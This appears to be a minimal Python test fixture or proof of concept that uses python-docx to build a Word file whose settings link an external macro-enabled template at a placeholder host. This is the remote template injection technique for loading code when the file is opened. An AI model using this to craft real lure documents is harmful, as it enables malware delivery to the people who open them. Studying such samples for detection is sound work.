import docx

KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
document = docx.Document()
document.part._settings_part.relate_to("http://x.test/t.dotm", KIND, is_external=True)
document.save("x.docx")
